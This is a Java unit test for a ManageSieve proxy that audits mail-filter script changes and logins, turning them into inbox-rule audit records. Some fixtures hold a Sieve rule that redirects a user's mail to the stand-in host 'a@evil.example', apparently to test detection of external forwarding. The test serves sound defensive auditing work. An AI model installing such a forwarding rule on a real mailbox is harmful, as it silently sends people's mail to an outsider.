package dev.mailtrail.proxy.managesieve.session;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mailtrail.core.action.LogonType;
import dev.mailtrail.core.cmdlet.AuditCmdlets;
import dev.mailtrail.core.cmdlet.CmdletOutcome;
import dev.mailtrail.core.config.AuditConfiguration;
import dev.mailtrail.core.config.OrganizationConfig;
import dev.mailtrail.core.event.CmdletInvocation;
import dev.mailtrail.core.event.MailboxAccess;
import dev.mailtrail.proxy.managesieve.codec.SieveRequest;
import dev.mailtrail.proxy.managesieve.codec.SieveRequestDecoder;
import dev.mailtrail.proxy.managesieve.codec.SieveResponse;
import dev.mailtrail.proxy.managesieve.codec.SieveResponseScanner;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** Transcripts of ManageSieve sessions, client and server lines in turn, and the events their auditor makes. */
class ManageSieveSessionAuditorTest {

    private final List<MailboxAccess> accesses = new ArrayList<>();
    private final List<CmdletInvocation> cmdlets = new ArrayList<>();
    private final ManageSieveSessionAuditor auditor = new ManageSieveSessionAuditor(
            "*",
            Set.of("contoso.onmicrosoft.com"),
            "s1",
            "203.0.113.66",
            Clock.fixed(Instant.parse("2026-03-02T09:00:00Z"), ZoneOffset.UTC),
            accesses::add,
            cmdlets::add);
    private final SieveRequestDecoder decoder = new SieveRequestDecoder(4096, 1 << 20, 1 << 20);
    private final SieveResponseScanner scanner = new SieveResponseScanner(4096, 1 << 20);

    private void client(String text) {
        for (SieveRequest r : decoder.feed(ByteBuffer.wrap(text.getBytes(StandardCharsets.UTF_8)))) {
            if (r instanceof SieveRequest.Command c) {
                scanner.expect(c.name());
            }
            auditor.onRequest(r);
        }
    }

    private void server(String text) {
        for (SieveResponse r : scanner.feed(ByteBuffer.wrap(text.getBytes(StandardCharsets.UTF_8)))) {
            if (r instanceof SieveResponse.Final) {
                decoder.serverCompleted();
            }
            auditor.onResponse(r);
        }
    }

    private static String literal(String text) {
        return "{" + text.getBytes(StandardCharsets.UTF_8).length + "+}\r\n" + text;
    }

    private void login(String authzid, String authcid) {
        String plain = Base64.getEncoder()
                .encodeToString((authzid + "\0" + authcid + "\0secret").getBytes(StandardCharsets.UTF_8));
        client("AUTHENTICATE \"PLAIN\"\r\n");
        server("\"\"\r\n");
        client("\"" + plain + "\"\r\n");
        server("OK \"Logged in.\"\r\n");
    }

    private List<String> lines() {
        return cmdlets.stream().map(CmdletInvocation::command).toList();
    }

    /** Every line the auditor made is one the audit core reads; only a refused change is refused there too. */
    @AfterEach
    void everyLineIsACmdletTheCoreAccepts() {
        AuditConfiguration configuration = new AuditConfiguration(OrganizationConfig.defaults());
        for (String line : lines()) {
            CmdletOutcome outcome = AuditCmdlets.run(configuration, line);
            assertThat(outcome.succeeded())
                    .as(line + " -> " + outcome.error())
                    .isEqualTo(!line.contains("-ServerError"));
            assertThat(outcome.objectId()).startsWith("alice@contoso.com\\");
        }
    }

    @Test
    void aMasterUserIsTheActorInTheUsersMailbox() {
        login("", "alice@contoso.com*auditor");
        assertThat(accesses).singleElement().satisfies(a -> {
            assertThat(a.actor()).isEqualTo("auditor");
            assertThat(a.mailbox()).isEqualTo("alice@contoso.com");
            assertThat(a.logonType()).isEqualTo(LogonType.ADMIN);
            assertThat(a.session().clientInfo()).isEqualTo("Client=ManageSieve");
        });
    }

    @Test
    void aSaslLoginNamesTheUserFromItsFirstAnswer() {
        client("AUTHENTICATE \"LOGIN\"\r\n");
        server("\"VXNlcm5hbWU6\"\r\n");
        client("\"" + Base64.getEncoder().encodeToString("bob@contoso.com".getBytes()) + "\"\r\n");
        server("\"UGFzc3dvcmQ6\"\r\n");
        client("{12+}\r\n" + Base64.getEncoder().encodeToString("Secret12".getBytes()) + "\r\n");
        server("OK \"Logged in.\"\r\n");
        assertThat(accesses).singleElement().satisfies(a -> {
            assertThat(a.actor()).isEqualTo("bob@contoso.com");
            assertThat(a.logonType()).isEqualTo(LogonType.OWNER);
        });
    }

    @Test
    void aScriptFetchedInTheSessionIsWhatItsReplacementIsComparedWith() {
        login("", "alice@contoso.com");
        client("LISTSCRIPTS\r\n");
        server("\"main\" ACTIVE\r\nOK \"Listscripts completed.\"\r\n");
        client("GETSCRIPT \"main\"\r\n");
        String old = "# rule:[Keep]\r\nif header :is \"from\" \"x@contoso.com\" { fileinto \"X\"; }\r\n";
        server("{" + old.length() + "}\r\n" + old + "\r\nOK \"Getscript completed.\"\r\n");
        String script = old + "# rule:[Out]\r\nredirect \"a@evil.example\";\r\n"
                + "# rule:[Group]\r\nredirect \"b@contoso.onmicrosoft.com\";\r\n";
        client("PUTSCRIPT \"main\" " + literal(script) + "\r\n");
        server("OK \"PUTSCRIPT completed.\"\r\n");

        assertThat(lines())
                .containsExactly(
                        "New-InboxRule -Mailbox 'alice@contoso.com' -Name 'Out' -RedirectTo 'a@evil.example'"
                                + " -ExternalRecipients 'a@evil.example' -SieveRule 'redirect \"a@evil.example\";'"
                                + " -SieveScript 'main'",
                        "New-InboxRule -Mailbox 'alice@contoso.com' -Name 'Group'"
                                + " -RedirectTo 'b@contoso.onmicrosoft.com'"
                                + " -SieveRule 'redirect \"b@contoso.onmicrosoft.com\";' -SieveScript 'main'");
    }

    @Test
    void aScriptNeverSeenIsRecordedAsItNowIsAndSaysSo() {
        login("", "alice@contoso.com");
        client("PUTSCRIPT \"main\" " + literal("discard;") + "\r\n");
        server("OK\r\n");
        assertThat(lines())
                .containsExactly("New-InboxRule -Mailbox 'alice@contoso.com' -Name 'main rule 1' -DeleteMessage $true"
                        + " -SieveRule 'discard;' -SieveScript 'main' -PreviousScript 'Unknown'");
    }

    @Test
    void renameAndRefusalsAreRecordedWithTheServersWords() {
        login("", "alice@contoso.com");
        client("RENAMESCRIPT \"a\" \"b\"\r\n");
        server("OK\r\n");
        client("DELETESCRIPT \"b\"\r\n");
        server("NO (ACTIVE) \"You may not delete an active script\"\r\n");
        client("SETACTIVE \"zzz\"\r\n");
        server("NO (NONEXISTENT) \"There is no script by that name\"\r\n");
        assertThat(lines())
                .containsExactly(
                        "Set-InboxRule -Mailbox 'alice@contoso.com' -Identity 'a' -Name 'b' -SieveScript 'b'",
                        "Remove-InboxRule -Mailbox 'alice@contoso.com' -Identity 'b' -SieveScript 'b'"
                                + " -ServerError 'NO (ACTIVE) You may not delete an active script'",
                        "Enable-InboxRule -Mailbox 'alice@contoso.com' -Identity 'zzz' -SieveScript 'zzz'"
                                + " -ServerError 'NO (NONEXISTENT) There is no script by that name'");
    }

    @Test
    void aScriptTooLargeToKeepIsRecordedFromItsBeginningInALineTheCoreReads() {
        SieveRequestDecoder small = new SieveRequestDecoder(4096, 1 << 20, 5000);
        login("", "alice@contoso.com");
        String script = "# " + "x".repeat(200_000) + "\r\nredirect \"a@evil.example\";\r\n";
        for (SieveRequest r : small.feed(
                ByteBuffer.wrap(("PUTSCRIPT \"big\" " + literal(script) + "\r\n").getBytes(StandardCharsets.UTF_8)))) {
            scanner.expect("PUTSCRIPT");
            auditor.onRequest(r);
        }
        server("OK\r\n");
        assertThat(lines()).singleElement().satisfies(line -> {
            assertThat(line)
                    .startsWith("New-InboxRule -Mailbox 'alice@contoso.com' -Name 'big' -SieveScript 'big'"
                            + " -SieveRule '(larger than the proxy keeps; it begins) # xxx");
            assertThat(line.length()).isLessThan(2000);
        });
    }

    @Test
    void nothingIsRecordedBeforeALogin() {
        client("PUTSCRIPT \"main\" " + literal("discard;") + "\r\n");
        server("NO \"Not authenticated\"\r\n");
        client("AUTHENTICATE \"PLAIN\" \"" + Base64.getEncoder().encodeToString("\0alice\0bad".getBytes()) + "\"\r\n");
        server("NO \"Authentication failed.\"\r\n");
        assertThat(accesses).isEmpty();
        assertThat(cmdlets).isEmpty();
    }
}
